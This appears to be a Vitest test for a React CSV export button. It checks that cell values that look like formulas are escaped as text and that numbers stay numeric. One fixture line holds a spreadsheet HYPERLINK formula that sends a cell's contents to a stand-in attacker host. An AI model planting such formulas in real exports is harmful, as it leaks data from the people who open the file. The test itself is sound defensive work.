import { parseCsv } from '@storelens/csv/testing';
import { createApiClient, DataProvider } from '@storelens/data';
import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { customerCells, customersReport } from '../customers/definition';
import { ExportButton } from './export';
import { testContext } from './test-context';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';

/** Clicks Download and returns the text of the file the browser was given. */
async function downloaded(rows: ReturnType<typeof customerCells>[]): Promise<string> {
  const blobs: Blob[] = [];
  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
    blobs.push(blob as Blob);
    return 'blob:csv';
  });
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
  const fetchImpl = vi.fn<typeof fetch>();
  const table = customersReport.table({}, {} as never);
  render(
    <DataProvider client={createApiClient({ fetch: fetchImpl })}>
      <ExportButton
        title="Customers"
        endpoint="customers"
        query={{}}
        args={{}}
        headers={table.headers}
        rows={rows}
        totalRows={rows.length}
        disabled={false}
      />
    </DataProvider>,
  );
  await userEvent.setup().click(screen.getByRole('button', { name: 'Download' }));
  // Every row was on the page: the browser wrote the file, the server was not asked.
  expect(fetchImpl).not.toHaveBeenCalled();
  expect(blobs).toHaveLength(1);
  // jsdom's Blob has no text(): read it as a browser without one would.
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(String(reader.result));
    reader.onerror = () => reject(reader.error);
    reader.readAsText(blobs[0]!);
  });
}

afterEach(() => vi.restoreAllMocks());

describe('the browser’s CSV of a report', () => {
  it('writes a formula-looking customer as text and money as numbers', async () => {
    const text = await downloaded([
      customerCells(
        {
          id: 41,
          name: FORMULA,
          username: '@admin',
          email: 'a@example.com',
          orders_count: 2,
          total_spend: -12.5,
          avg_order_value: -6.25,
          country: 'US',
          city: '+1 city',
          state: 'CA',
          postcode: '-90210',
        },
        testContext(),
      ),
    ]);
    const [header, row] = parseCsv(text) as [string[], string[]];
    expect(header[0]).toBe('Name');
    const cell = (label: string) => row[header.indexOf(label)];
    expect(cell('Name')).toBe(`'${FORMULA}`);
    expect(cell('Username')).toBe("'@admin");
    expect(cell('City')).toBe("'+1 city");
    expect(cell('Total spend')).toBe('-12.5');
    expect(cell('AOV')).toBe('-6.25');
    // Text that is only a number is a number to the spreadsheet, and is kept so.
    expect(cell('Postal code')).toBe('-90210');
    expect(text).not.toMatch(/(^|,)[=+@]/m);
  });
});
